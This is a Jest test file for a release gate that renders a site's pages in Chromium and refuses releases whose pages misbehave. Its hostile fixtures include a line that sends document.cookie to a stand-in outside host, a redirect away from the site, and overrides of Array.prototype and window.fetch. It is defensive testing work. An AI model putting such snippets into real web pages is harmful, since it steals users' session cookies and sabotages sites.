import { beforeEach, describe, expect, it } from '@jest/globals';
import { activateRelease } from '../acts/acts.ts';
import type { ReleaseStore } from '../log/release-store.ts';
import { buildContainer, buildPublished, type DistOverrides } from '../testing/build-dist.ts';
import { buildPlatform, testPolicy } from '../testing/build-platform.ts';
import { buildFoundedSite } from '../testing/build-published-site.ts';
import { loadPages } from '../testing/load-pages.ts';
import { readNewest } from '../testing/read-switches.ts';
import { refusalOf } from '../testing/tamper.ts';
import { pagesComeAlive, pagesComeAliveWithin } from './browser-rule.ts';
import { gateRules } from './gate.ts';

const operator = { remote: 'mf-agents', by: 'anna', reason: 'test' };
/** The gate with less patience, so that a page that hangs does not hold the test up. */
const impatient = pagesComeAliveWithin({ page: 2000, all: 8000 });
const rules = gateRules.map((rule) => (rule.id === impatient.id ? impatient : rule));
/** Where no browser is, the rule alone says so, and no page is rendered. */
const tried = [pagesComeAlive];
let store: ReleaseStore;

beforeEach(async () => {
  ({ store } = await buildFoundedSite());
});

/** A container whose page is loaded by this code. */
const page = (load: string): DistOverrides => container(buildContainer([{}], { load }));
const container = (code: string): DistOverrides => ({ files: { 'browser/remoteEntry.js': code } });
/** Code of a page that shows this beside its heading. */
const showing = (child: string) =>
  `return () => jsx('div', { children: [jsx('h1', { children: route.title }, 1), ${child}] });`;

interface PageCode {
  path?: string;
  browser: string;
  server: string;
}

/** A release of several pages, by the code that loads each in a browser and on the server; browsers run the code beside them, too. */
function pages(codes: readonly PageCode[], beside = ''): DistOverrides {
  const routes = codes.map(({ path }, index) => ({ path: path ?? `/my-agent/${index}`, title: `Page ${index}` }));
  const loadBy = (side: 'browser' | 'server') =>
    codes.map((code, index) => `if (route.path === '${routes[index]?.path}') { ${code[side]} }`).join(' ');
  const server = `const { jsx } = require('react/jsx-runtime');
exports.routes = ${JSON.stringify(routes)}.map((route) => ({ ...route, load: async () => { ${loadBy('server')} } }));`;
  const container = buildContainer(routes, { load: loadBy('browser') });
  return { routes, files: { 'browser/remoteEntry.js': `${container} ${beside}`, 'server/remote.cjs': server } };
}
const good = "return () => jsx('h1', { children: route.title });";
const whole = buildContainer([{}]);

const hostile: [string, DistOverrides, RegExp][] = [
  ['throws', container('throw new Error("no licence");'), /no licence/],
  [
    'defines another global',
    container(whole.replace('var mf_agents', 'var mf_intake')),
    /mf-agents .* failed \(load\)/,
  ],
  ['has a page that throws as it loads', page('throw new Error("no data");'), /failed \(load\).*no data/],
  ['has a page that throws as it renders', page('return () => { throw new Error("no window"); };'), /no window/],
  ['has a page that never mounts', page('return new Promise(() => {});'), /does not come alive|failed \(timeout\)/],
  ['leads away', page(`location.href = 'https://elsewhere.example/'; ${good}`), /leads away to/],
  [
    'registers a service worker',
    page(`navigator.serviceWorker.register('/mine.js'); ${good}`),
    /calls navigator\.serviceWorker\.register|failed \(load\)/,
  ],
];

/** What a page does that comes alive all the same, and what is said of it. */
const alive: [string, string, RegExp][] = [
  [
    'renders another page than the server',
    "return () => jsx('h1', { children: 'Something else' });",
    /hydration did not match/,
  ],
  [
    'replaces what every list has',
    `Array.prototype.map = function () { return []; }; ${good}`,
    /changes window\.helper, Array\.prototype\.map of the browser/,
  ],
  [
    'sends what it finds to another host',
    `void fetch('https://elsewhere.example/' + document.cookie); ${good}`,
    /'https:\/\/elsewhere\.example\/' violates the following Content Security Policy directive/,
  ],
  ['writes into the document', `document.write('mine'); ${good}`, /calls document\.write/],
  ['opens a dialog', `alert('hello'); ${good}`, /calls window\.alert|opens a dialog/],
  ['says an error on the console', `console.error('broken'); ${good}`, /says on the console: broken/],
  ['leaves a promise rejected', `Promise.reject(new Error('lost')); ${good}`, /rejected: Error: lost|throws.*lost/],
  [
    'asks a moment after it came alive',
    `return () => { React.useEffect(() => void setTimeout(() => confirm('now'), 20), []); return jsx('h1', { children: route.title }); };`,
    /calls window\.confirm|opens a dialog/,
  ],
];

/** Whoever works here has a browser: without one nothing below would be tried. */
const platformOf = (browser: string | undefined = 'require') => ({
  ...buildPlatform(store),
  policy: { ...testPolicy, browsing: { loadPages, browser } },
});

describe('the gate rule "browser"', () => {
  it('lets a release pass whose pages come alive, also with styles of their own, and says what they were tried in', async () => {
    const plain = { browser: good, server: good };
    // Header and footer stay where they are.
    const styles = showing("jsx('style', { children: 'h1 { color: red } main header { display: none }' }, 2)");
    const own = { browser: styles, server: styles };
    const id = await buildPublished(store, pages([plain, { ...plain, path: '/agents/:agentName' }, own]));
    const { outcome, notes } = await activateRelease(platformOf(), { ...operator, id });
    expect(outcome).toBe('changed');
    expect(notes).toEqual([expect.stringMatching(/^browser step: Chromium( without its own sandbox)?$/)]);
  });

  it.each(hostile)('refuses a release whose container %s', async (_, overrides, problem) => {
    const id = await buildPublished(store, overrides);
    const { findings } = await refusalOf(activateRelease(platformOf(), { ...operator, id, rules }));
    expect(findings.map(({ rule }) => rule)).toContain('browser');
    expect(findings.map((finding) => finding.problem).join('\n')).toMatch(problem);
    expect(await readNewest(store)).toBeNull();
  });

  it('refuses a release for each page that comes alive and still does what it must not', async () => {
    const hidden = ['display: none', 'transform: translateX(-9999px)', 'opacity: 0', 'height: 0', 'visibility: hidden'];
    const shown = [
      "jsx('img', { src: '/pictures/none.webp', alt: '' }, 2)",
      "jsx('img', { src: '/favicon.svg', srcSet: '/favicon.svg 1x, /favicon-2x.svg 2x', alt: '' }, 2)",
      "jsx('style', { children: 'p { background: url(\\\"/texture.png\\\") }' }, 2)",
      ...hidden.map((style) => `jsx('style', { children: 'header { ${style} !important }' }, 2)`),
    ].map((child) => ({ browser: showing(child), server: showing(child) }));
    const done = [
      "document.head.append(Object.assign(document.createElement('style'), { textContent: 'footer { display: none }' }));",
      'window.fetch = () => {};',
      'Array.prototype.last = () => {};',
    ].map((code) => ({ browser: `${code} ${good}`, server: good }));
    const id = await buildPublished(store, pages([...shown, ...done]));
    const { findings } = await refusalOf(activateRelease(platformOf(), { ...operator, id }));
    expect(findings.map(({ problem }) => problem)).toEqual([
      'The page /my-agent/0 shows /pictures/none.webp, which is not there.',
      'The page /my-agent/1 shows /favicon-2x.svg, which is not there.',
      'The page /my-agent/2 shows /texture.png, which is not there.',
      'The page /my-agent/3 (and 5 more) hides or moves the header or footer of the site.',
      'The page /my-agent/9 changes window.fetch of the browser.',
      'The page /my-agent/10 changes Array.prototype.last of the browser.',
    ]);
  });

  it('names each page of a release that comes alive and harms somebody', async () => {
    const codes = alive.map(([, browser]) => ({ browser, server: good }));
    const id = await buildPublished(store, pages(codes, 'var helper = 1;'));
    const { findings } = await refusalOf(activateRelease(platformOf(), { ...operator, id }));
    const problemsOf = (index: number) => {
      const own = findings.filter(({ problem }) => problem.startsWith(`The page /my-agent/${index} `));
      return own.map(({ rule, problem }) => `${rule}: ${problem}`).join('\n');
    };
    expect(alive.map(([name], index) => [name, problemsOf(index)])).toEqual(
      alive.map(([name, , words]) => [name, expect.stringMatching(new RegExp(`^browser: .*(?:${words.source})`, 's'))]),
    );
    // What the container of the release itself defines.
    expect(problemsOf(0)).toMatch(/changes window\.helper.* of the browser/);
    expect(await readNewest(store)).toBeNull();
  });

  it('gives pages more time on a machine that is slow with its own page, too', async () => {
    const host = await loadPages();
    const slow = Object.create(host, { isAlive: { value: `performance.now() > 1500 && ${host.isAlive}` } });
    const platform = {
      ...buildPlatform(store),
      policy: { ...testPolicy, browsing: { loadPages: async () => slow, browser: 'require' } },
    };
    const id = await buildPublished(store);
    expect(await activateRelease(platform, { ...operator, id, rules: [impatient] })).toMatchObject({
      outcome: 'changed',
    });
  });

  it('refuses where the site requires a browser and the named one is not there, or does not start', async () => {
    const id = await buildPublished(store);
    const named = {
      '/no/such/chromium': 'there is no browser at /no/such/chromium',
      '/bin/true': '/bin/true does not start',
    };
    for (const [browser, why] of Object.entries(named)) {
      const refusal = await refusalOf(activateRelease(platformOf(browser), { ...operator, id, rules: tried }));
      expect(refusal.findings).toMatchObject([{ rule: 'browser', problem: expect.stringContaining(why) }]);
      expect(refusal.message).toContain(`Gate: browser step: missing, as ${why}`);
    }
  });

  it('names the step as missing where no browser is there, in the answer as in a refusal, and lets the release pass', async () => {
    const browsing = { loadPages, places: ['/no/such/chromium'] };
    const platform = { ...buildPlatform(store), policy: { ...testPolicy, browsing } };
    const missing = 'browser step: missing, as no Chromium, Chrome or Edge is installed here: no page was opened';
    const first = { ...operator, id: await buildPublished(store), rules: tried };
    const { outcome, notes } = await activateRelease(platform, first);
    expect({ outcome, notes }).toEqual({ outcome: 'changed', notes: [missing] });
    const files = { 'server/remote.cjs': 'exports.routes = [];' };
    const broken = await buildPublished(store, { version: '1.1.0', files });
    const { findings, message } = await refusalOf(activateRelease(platform, { ...operator, id: broken }));
    expect(findings.map(({ rule }) => rule)).toEqual(['render']);
    expect(message.endsWith(`\n  Gate: ${missing}.`)).toBe(true);
    const required = { ...platform, policy: { ...testPolicy, browsing: { ...browsing, browser: 'require' } } };
    const id = await buildPublished(store, { version: '1.2.0' });
    const refusal = await refusalOf(activateRelease(required, { ...operator, id, rules: tried }));
    expect(refusal.findings).toMatchObject([
      { rule: 'browser', problem: 'No browser could try the pages: no Chromium, Chrome or Edge is installed here.' },
    ]);
  });

  it('says that it tried nothing where the host gives no pages', async () => {
    const request = { ...operator, id: await buildPublished(store), rules: tried };
    const { notes } = await activateRelease(buildPlatform(store), request);
    expect(notes).toEqual(['browser step: none, as this host gives no pages to try']);
  });
});
